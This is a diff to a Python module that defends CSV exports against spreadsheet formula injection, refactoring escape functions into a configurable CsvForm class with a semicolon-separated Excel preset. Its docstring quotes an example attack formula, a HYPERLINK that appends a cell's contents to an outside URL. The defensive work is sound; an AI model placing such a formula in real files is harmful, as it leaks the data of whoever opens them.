@@ -1,18 +1,24 @@
-"""Cells of CSV files which spreadsheet programs do not take for formulas.
+"""The forms of CSV files, with cells which spreadsheet programs do not take for formulas.
 
 A note like `=HYPERLINK("http://site/?"&A1)` would run in the program of the person who opens the
 file. An apostrophe before it makes it a text. It is removed when the file is read back.
 
 A program may split the file in another way than it was written: at semicolons, where the comma is
-the decimal sign, at tabs, or at line breaks. So a formula behind one of these gets an apostrophe,
-too. Programs skip blanks, quotes, byte order marks and letters without a width before a formula.
+the decimal sign, at tabs, or at line breaks; or at commas, where it was written with semicolons. So
+a formula behind one of these gets an apostrophe, too. Programs skip blanks, quotes, byte order
+marks and letters without a width before a formula.
 
 Source: OWASP, "CSV Injection".
 """
 
 from __future__ import annotations
 
+import csv
+import io
 import re
+from collections.abc import Iterable
+from dataclasses import dataclass
+from functools import cached_property
 from typing import TypeVar
 
 SIGNS = "=+\\-@\uff1d\uff0b\uff0d\uff20"
@@ -20,20 +26,58 @@ SIGNS = "=+\\-@\uff1d\uff0b\uff0d\uff20"
 SKIPPED = "\x00-\x20\x7f-\xa0'\"\u200b-\u200f\u2060\ufeff"
 """The characters that may stand before a formula. A quote ends the quotes of a file that is split
 elsewhere."""
-PLACE = r"(?:^|(?<=[;\t\n])|(?<=\r)(?!\n))"
-FORMULA = re.compile(rf"{PLACE}(?=[{SKIPPED}]*[{SIGNS}])|^(?='*[\t\r\n])")
-"""Pattern of the places before a formula."""
-ESCAPED = re.compile(rf"{PLACE}'(?=[{SKIPPED}]*[{SIGNS}])|^'(?='*[\t\r\n])")
 APOSTROPHE = "'"
+BYTE_ORDER_MARK = "\ufeff"
 
 CellT = TypeVar("CellT")
 
 
-def to_cell(value: CellT) -> CellT | str:
-    """Return a value for a CSV file; numbers and harmless texts stay."""
-    return FORMULA.sub(APOSTROPHE, value) if isinstance(value, str) else value
+@dataclass(frozen=True)
+class CsvForm:
+    """How the rows of a CSV file are written.
+
+    Attributes:
+        separator: Character between cells.
+        decimal: Decimal sign of numbers.
+        mark: Text before the first row.
+        splits: Characters at which a program may split a cell.
+    """
+
+    separator: str = ","
+    decimal: str = "."
+    mark: str = ""
+    splits: str = ";\t\n"
+
+    def to_cell(self, value: CellT) -> CellT | str:
+        """Return a value for a cell; whole numbers and harmless texts stay."""
+        if isinstance(value, float) and self.decimal != ".":
+            return str(value).replace(".", self.decimal)
+        return self._formula.sub(APOSTROPHE, value) if isinstance(value, str) else value
+
+    def from_cell(self, text: str) -> str:
+        """Return the text from which `to_cell` made a cell."""
+        return self._escaped.sub("", text)
+
+    def to_lines(self, rows: Iterable[Iterable[object]], line_end: str = "\r\n") -> str:
+        """Return rows of cells as lines."""
+        file = io.StringIO()
+        csv.writer(file, delimiter=self.separator, lineterminator=line_end).writerows(rows)
+        return file.getvalue()
+
+    @property
+    def _place(self) -> str:
+        return rf"(?:^|(?<=[{self.splits}])|(?<=\r)(?!\n))"
+
+    @cached_property
+    def _formula(self) -> re.Pattern[str]:
+        """Pattern of the places before a formula."""
+        return re.compile(rf"{self._place}(?=[{SKIPPED}]*[{SIGNS}])|^(?='*[\t\r\n])")
+
+    @cached_property
+    def _escaped(self) -> re.Pattern[str]:
+        return re.compile(rf"{self._place}'(?=[{SKIPPED}]*[{SIGNS}])|^'(?='*[\t\r\n])")
 
 
-def from_cell(text: str) -> str:
-    """Return the text from which `to_cell` made a cell."""
-    return ESCAPED.sub("", text)
+PLAIN = CsvForm()
+EXCEL = CsvForm(";", ",", BYTE_ORDER_MARK, ",;\t\n")
+"""What a double click opens as a table where the comma is the decimal sign."""
